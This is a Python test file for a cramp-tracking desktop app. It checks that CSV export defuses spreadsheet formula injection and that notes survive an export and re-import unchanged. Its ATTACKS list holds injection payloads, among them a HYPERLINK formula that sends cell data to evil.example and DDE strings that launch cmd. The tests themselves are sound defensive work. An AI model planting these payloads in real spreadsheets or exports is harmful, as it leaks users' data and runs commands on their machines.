"""CSV attacks and slips: formula injection, broken quoting, lenient numbers, daylight-
saving gaps, odd offsets, UTF-16, huge files and headers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cramp_desktop.core.csv_io import (
    FORMULA_STARTS,
    CsvImportError,
    parse_episodes,
    write_episodes,
)
from cramp_desktop.core.episodes import Context, Episode, Muscle, Side

NOW = dt.datetime(2025, 6, 1, 12, 0, tzinfo=dt.UTC)
HEADER = (
    "started_at,duration_min,severity,muscle,side,context,triggers,relief,"
    "relief_helped,sleep_disturbance,notes"
)


def episode(notes: str = "") -> Episode:
    return Episode(
        started_at=dt.datetime(2024, 5, 1, 23, 30, tzinfo=dt.timezone(dt.timedelta(hours=2))),
        duration_s=90,
        severity=6,
        muscle=Muscle.CALF,
        side=Side.LEFT,
        context=Context.SLEEP,
        notes=notes,
    )


def exported(notes: list[str]) -> str:
    stream = io.StringIO(newline="")
    write_episodes([episode(note) for note in notes], stream)
    return stream.getvalue()


def problems(text: str) -> list[str]:
    with pytest.raises(CsvImportError) as raised:
        parse_episodes(text, now=NOW)
    return raised.value.problems


# -- 3. formula injection --------------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'tis cold",
    "''",
    "'",
    "= with spaces",
]


@pytest.mark.parametrize("note", ATTACKS)
def test_no_exported_cell_starts_a_formula(note: str) -> None:
    rows = list(csv.reader(io.StringIO(exported([note]), newline="")))
    cell = rows[1][-1]
    assert not cell.startswith(FORMULA_STARTS), cell
    assert cell == "'" + note  # the OWASP way: an apostrophe in front


def test_export_then_import_gives_back_every_note_unchanged() -> None:
    notes = [*ATTACKS, "plain", "", "it's fine", "a - b", "x=1"]
    back = parse_episodes(exported(notes), now=NOW)
    assert [e.notes for e in back] == notes


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a ;\",\n"), max_size=8))
def test_round_trip_holds_for_any_note(note: str) -> None:
    [back] = parse_episodes(exported([note]), now=NOW)
    assert back.notes == note


def test_a_hand_written_apostrophe_is_kept() -> None:
    """Only the apostrophe export adds is removed: "'tis" stays as written."""
    row = "2024-05-01T23:40+02:00,1,5,calf,left,sleep,,,,,'tis cold"
    [back] = parse_episodes(f"{HEADER}\n{row}\n", now=NOW)
    assert back.notes == "'tis cold"
